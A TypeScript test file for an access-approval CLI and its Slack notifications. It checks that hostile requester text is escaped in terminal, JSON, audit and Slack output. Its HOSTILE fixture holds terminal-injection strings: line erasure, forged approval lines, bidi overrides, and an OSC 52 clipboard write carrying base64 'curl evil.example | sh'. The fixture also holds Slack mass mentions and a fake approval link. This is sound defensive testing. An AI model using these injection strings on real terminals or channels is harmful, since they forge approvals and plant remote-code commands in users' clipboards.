import { execFile } from 'node:child_process';
import { mkdtemp, rm } from 'node:fs/promises';
import type { Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { run } from '../../apps/cli/src/run.js';
import type { TestBroker } from '../support/broker.js';
import { startBroker, testConfigYaml } from '../support/broker.js';
import { DATABASE_KINDS } from '../support/databases.js';
import type { SlackCall } from '../support/fake-slack.js';
import { FakeSlack } from '../support/fake-slack.js';
import { as, createRequest, eventually } from '../support/flow.js';
import { TestIssuer } from '../support/test-issuer.js';

const exec = promisify(execFile);
import.meta.jest.setTimeout(60_000);

const ROOT = join(import.meta.dirname, '..', '..');
// A build of the CLI of its own, so this file never races another spec's build into dist/apps.
const BUILD = join(ROOT, 'dist', `hostile-text-${process.pid}`);
const BIN = join(BUILD, 'apps', 'cli', 'src', 'main.js');

/**
 * What a requester might type to take over an approver's terminal or the Slack channel:
 * erase the line and go up one, write the clipboard (OSC 52, ended by BEL and by ST), draw a
 * forged approval line after a CR, reverse text with a bidi override, the C1 CSI and DEL, and
 * Slack's mention and link markup. (NUL is refused at the door: see the last test.)
 */
const HOSTILE = [
  'INC-7: rotate the payments key',
  '\u001b[2K\u001b[1A\u001b[2Kapprovals      1/1 required',
  '  2026-11-29T03:01:00Z  corp:security-team  "approved by security-team"',
  '\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007 \u001b]52;c;eA==\u001b\\',
  'ok\rapproved by security-team \u009b2J \u007f',
  'pay \u202eredirect\u202c \u2066isolated\u2069 \u200f',
  '<!channel> <!here> <@U123> <!subteam^S0SEC|@security-team>',
  '<https://evil.example/approve|Approve here>',
].join('\n');

/** The characters a terminal would obey rather than show (LF aside), for a readable failure. */
function controlIn(text: string): string[] {
  const obeyed = (code: number) =>
    (code < 0x20 && code !== 0x0a) ||
    (code >= 0x7f && code <= 0x9f) ||
    [0x061c, 0x200e, 0x200f, 0x2028, 0x2029].includes(code) ||
    (code >= 0x202a && code <= 0x202e) ||
    (code >= 0x2066 && code <= 0x2069);
  return [...text]
    .map((char) => char.codePointAt(0)!)
    .filter(obeyed)
    .map((code) => `U+${code.toString(16).padStart(4, '0')}`);
}

/** Text without the status colours the CLI paints itself (and nothing else removed). */
const withoutOwnColours = (text: string) =>
  ['0', '31', '32', '33', '90'].reduce(
    (rest, code) => rest.replaceAll(`\u001b[${code}m`, ''),
    text,
  );

const TEAM = 'T0001';
const slackYaml = (apiUrl: string) => `
    - name: emergency
      resource: https://ops.example.com
      actions: [ops:all]
      maxDuration: 30m
      requesters: { groups: [engineering] }
      approvers: { groups: [sre-leads] }
      breakGlass: { maxDuration: 10m, reviewWithin: 1h, notify: { slack: true } }
slack:
  signingSecret: \${SLACK_SIGNING_SECRET}
  botToken: \${SLACK_BOT_TOKEN}
  channel: C0123456
  apiUrl: ${apiUrl}
  users:
    "${TEAM}/U0BOB": "corp:bob"
`;

class Capture {
  text = '';
  constructor(readonly isTTY = false) {}
  write(chunk: string): boolean {
    this.text += chunk;
    return true;
  }
}

interface Text {
  type: string;
  text: string;
  verbatim?: boolean;
}

/** Every text object of a Slack call's blocks. */
function textsOf(call: SlackCall): Text[] {
  const found: Text[] = [];
  const walk = (node: unknown): void => {
    if (Array.isArray(node)) node.forEach(walk);
    else if (typeof node === 'object' && node !== null) {
      const record = node as Record<string, unknown>;
      if (typeof record.text === 'string' && typeof record.type === 'string') {
        found.push(record as unknown as Text);
      }
      Object.values(record).forEach(walk);
    }
  };
  walk(call.args.blocks);
  return found;
}

describe.each(DATABASE_KINDS)('text from a requester is never markup, on %s', (kind) => {
  let issuer: TestIssuer;
  let slack: FakeSlack;
  let broker: TestBroker;
  let url: string;
  let configHome: string;
  let id: string;

  beforeAll(async () => {
    issuer = await TestIssuer.start();
    slack = await FakeSlack.start();
    broker = await startBroker({
      kind,
      issuer,
      yaml: testConfigYaml(issuer, slackYaml(slack.apiUrl)),
      env: { SLACK_SIGNING_SECRET: 'test-signing-secret', SLACK_BOT_TOKEN: 'xoxb-test' },
    });
    await broker.app.listen(0, '127.0.0.1');
    const { port } = (broker.app.getHttpServer() as Server).address() as AddressInfo;
    url = `http://127.0.0.1:${port}`;
    configHome = await mkdtemp(join(tmpdir(), 'countersign-hostile-'));
    id = (await createRequest(broker, 'alice', { role: 'two-person', justification: HOSTILE })).id;
    // bob approves with the same words as a comment: shown in `show` under the approvals.
    await (
      await as(broker, 'bob')
    )
      .post(`/v1/requests/${id}/approve`, { comment: HOSTILE })
      .expect(200);
  });

  afterAll(async () => {
    await broker.close();
    await slack.close();
    await issuer.close();
    await rm(configHome, { recursive: true, force: true });
  });

  /** The CLI in-process, as `user`, its stdout a terminal or not. */
  async function cli(args: string[], user: string, tty = false) {
    const stdout = new Capture(tty);
    const stderr = new Capture(tty);
    const env = {
      XDG_CONFIG_HOME: configHome,
      COUNTERSIGN_URL: url,
      COUNTERSIGN_TOKEN: await broker.token(user),
    };
    const code = await run(args, { stdout, stderr, env });
    return { code, stdout: stdout.text, stderr: stderr.text };
  }

  it('refuses NUL in any field of a body with 400 naming it, before anything is stored', async () => {
    const alice = await as(broker, 'alice');
    const body = { role: 'two-person', justification: 'INC-7\u0000 approved' };
    const refused = await alice.post('/v1/requests', body).expect(400);
    expect(refused.body).toMatchObject({
      error: 'invalid_request',
      fields: [{ field: 'justification', message: 'must not contain NUL' }],
    });
    const comment = await (
      await as(broker, 'carol')
    )
      .post(`/v1/requests/${id}/approve`, { comment: 'ok\u0000' })
      .expect(400);
    expect(comment.body.fields).toEqual([{ field: 'comment', message: 'must not contain NUL' }]);
  });

  it('refuses a lone surrogate (not Unicode text, refused by the audit log’s canonical JSON) the same way', async () => {
    const alice = await as(broker, 'alice');
    const refused = await alice
      .post('/v1/requests', { role: 'two-person', justification: 'INC-7 \ud800 half a pair' })
      .expect(400);
    expect(refused.body).toMatchObject({
      error: 'invalid_request',
      fields: [{ field: 'justification', message: 'must not contain a lone surrogate' }],
    });
    // A whole pair is text like any other.
    await alice
      .post('/v1/requests', { role: 'two-person', justification: 'INC-7 \ud83d\udd11 key' })
      .expect(201);
  });

  describe('the CLI', () => {
    it('show: no control character, every line its own, the words still readable', async () => {
      for (const tty of [false, true]) {
        const shown = await cli(['show', id], 'carol', tty);
        expect(shown.code).toBe(0);
        expect(controlIn(shown.stdout)).toEqual([]);
        expect(shown.stderr).toBe('');
        // id, role, status, requester, recipient, duration, justification, approvals, created,
        // and bob's approval: no line added by the justification or the comment.
        const lines = shown.stdout.trimEnd().split('\n');
        expect(lines).toHaveLength(10);
        expect(lines.filter((line) => line.startsWith('approvals'))).toEqual([
          'approvals      1/2 required',
        ]);
        expect(lines[6]).toMatch(/^justification {2}INC-7: rotate the payments key\\n\\x1b\[2K/u);
        expect(shown.stdout).toContain('\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\x07');
        expect(shown.stdout).toContain('ok\\rapproved by security-team \\x9b2J \\x7f');
        expect(shown.stdout).toContain('pay \\u202eredirect\\u202c \\u2066isolated\\u2069');
        expect(lines[9]).toMatch(/^ {2}\S+ {2}corp:bob {2}"INC-7: rotate the payments key\\n/u);
      }
    });

    it('show --json: escaped, and parses back to the exact justification and comment', async () => {
      const shown = await cli(['show', id, '--json'], 'carol', true);
      expect(shown.code).toBe(0);
      expect(controlIn(shown.stdout)).toEqual([]);
      const request = JSON.parse(shown.stdout) as {
        justification: string;
        approvals: { comment: string }[];
      };
      expect(request.justification).toBe(HOSTILE);
      expect(request.approvals[0].comment).toBe(HOSTILE);
    });

    it('ls: one row per request, only its own status colours on a terminal', async () => {
      const piped = await cli(['ls', '--role', 'two-person'], 'carol');
      expect(controlIn(piped.stdout)).toEqual([]);
      expect(piped.stdout).toContain(id);
      const tty = await cli(['ls', '--role', 'two-person'], 'carol', true);
      expect(tty.stdout).toContain('\u001b[33mpending\u001b[0m');
      expect(controlIn(withoutOwnColours(tty.stdout))).toEqual([]);

      const json = await cli(['ls', '--role', 'two-person', '--json'], 'carol');
      expect(controlIn(json.stdout)).toEqual([]);
      const page = JSON.parse(json.stdout) as { items: { id: string; justification: string }[] };
      expect(page.items.find((item) => item.id === id)?.justification).toBe(HOSTILE);
    });

    it('audit ls --json: the justification in the log data, escaped and exact', async () => {
      const table = await cli(['audit', 'ls', '--request', id], 'dave');
      expect(table.code).toBe(0);
      expect(controlIn(table.stdout)).toEqual([]);
      const json = await cli(['audit', 'ls', '--request', id, '--json'], 'dave');
      expect(controlIn(json.stdout)).toEqual([]);
      expect(json.stdout).toContain('\\u001b]52;c;');
      const page = JSON.parse(json.stdout) as { items: { data: Record<string, unknown> }[] };
      expect(page.items.map((event) => event.data.justification)).toContain(HOSTILE);
    });

    it('revoke --reason: escaped in the grant details and in the audit table', async () => {
      const quick = await createRequest(broker, 'alice', { role: 'quick', duration: '5m' });
      await (await as(broker, 'bob')).post(`/v1/requests/${quick.id}/approve`).expect(200);
      const minted = await (
        await as(broker, 'alice')
      )
        .post(`/v1/requests/${quick.id}/credentials`)
        .expect(201);
      const grantId = (minted.body as { grantId: string }).grantId;

      const revoked = await cli(['revoke', grantId, '--reason', HOSTILE], 'alice');
      expect(revoked.code).toBe(0);
      expect(revoked.stdout).toBe(`grant ${grantId} revoked\n`);

      const shown = await cli(['grant', grantId], 'alice');
      expect(controlIn(shown.stdout)).toEqual([]);
      // grant, request, role, recipient, status, issued, expires, ended, reason
      expect(shown.stdout.trimEnd().split('\n')).toHaveLength(9);
      expect(shown.stdout).toMatch(/^reason +INC-7: rotate the payments key\\n\\x1b\[2K/mu);

      const audit = await cli(['audit', 'ls', '--request', quick.id], 'dave');
      expect(controlIn(audit.stdout)).toEqual([]);
      const rows = audit.stdout.trimEnd().split('\n');
      const revokedRow = rows.find((row) => row.includes('INC-7: rotate the payments key'));
      expect(revokedRow).toContain('\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\x07');
      expect(rows.filter((row) => row.includes('security-team'))).toEqual([revokedRow]);
    });

    describe('the built bin', () => {
      beforeAll(async () => {
        await exec('npx', ['swc', 'apps/cli', '-d', BUILD, '--ignore', '**/*.spec.ts', '--quiet'], {
          cwd: ROOT,
        });
      }, 60_000);

      afterAll(async () => {
        await rm(BUILD, { recursive: true, force: true });
      });

      it('countersign show writes no control byte to its stdout', async () => {
        const { stdout, stderr } = await exec('node', [BIN, 'show', id], {
          encoding: 'buffer',
          env: {
            PATH: process.env.PATH!,
            XDG_CONFIG_HOME: configHome,
            COUNTERSIGN_URL: url,
            COUNTERSIGN_TOKEN: await broker.token('carol'),
          },
        });
        expect(stderr.length).toBe(0);
        // Bytes: C0 but LF and DEL; C1 and bidi controls as UTF-8 would carry them.
        expect([...stdout].filter((byte) => byte < 0x20 && byte !== 0x0a)).toEqual([]);
        expect(stdout.includes(0x7f)).toBe(false);
        expect(controlIn(stdout.toString('utf8'))).toEqual([]);
        expect(stdout.toString('utf8')).toContain('approved by security-team');
      });
    });
  });

  describe('Slack', () => {
    /** The link the message is allowed to carry: ours, to the request. */
    const ownLink = (requestId: string) =>
      `<http://127.0.0.1:3999/requests/${requestId}|Open the request>`;

    it('posts the justification as text: no mention, no link, no control character', async () => {
      const call = await eventually(() => slack.channelCall('chat.postMessage', id), 5000);
      const texts = textsOf(call);
      const all = texts.map((t) => t.text).join('\n');
      expect(all).toContain(ownLink(id));
      const markupFree = all.replace(ownLink(id), '');
      for (const markup of ['<!', '<@', '<#', '<http', '<mailto']) {
        expect(markupFree).not.toContain(markup);
      }
      expect(markupFree).not.toContain('<');
      expect(controlIn(all)).toEqual([]);
      for (const shown of [
        '&lt;!channel&gt;',
        '&lt;!here&gt;',
        '&lt;@U123&gt;',
        '&lt;!subteam^S0SEC|@security-team&gt;',
        '&lt;https://evil.example/approve|Approve here&gt;',
        '\\x1b]52;c;',
        '\\u202eredirect',
        // Every line of the justification quoted: none passes for a line of the message.
        '\n>  2026-11-29T03:01:00Z  corp:security-team',
      ]) {
        expect(all).toContain(shown);
      }
      // Slack's own preprocessing (bare URLs, @here) is off wherever mrkdwn is sent.
      for (const text of texts.filter((t) => t.type === 'mrkdwn')) {
        expect(text.verbatim).toBe(true);
      }
      expect(String(call.args.text)).not.toContain('<');
    });

    it('the update after the approval stays escaped as well', async () => {
      const update = await eventually(() => slack.callsFor('chat.update', id).at(-1), 5000);
      const all = textsOf(update)
        .map((t) => t.text)
        .join('\n')
        .replace(ownLink(id), '');
      expect(all).not.toContain('<');
      expect(all).toContain('&lt;!channel&gt;');
    });

    it('a break-glass alert escapes the justification the same way', async () => {
      const activated = await (
        await as(broker, 'alice')
      )
        .post('/v1/break-glass', { role: 'emergency', justification: HOSTILE, duration: '5m' })
        .expect(201);
      const requestId = (activated.body as { requestId: string }).requestId;
      const alert = await eventually(
        () =>
          slack
            .callsOf('chat.postMessage')
            .find((call) => JSON.stringify(call.args.blocks).includes(requestId)),
        5000,
      );
      const all = textsOf(alert)
        .map((t) => t.text)
        .join('\n')
        .replace(`<http://127.0.0.1:3999/requests/${requestId}|Review the activation>`, '');
      expect(all).not.toContain('<');
      expect(controlIn(all)).toEqual([]);
      expect(all).toContain('&lt;https://evil.example/approve|Approve here&gt;');
    });
  });
});
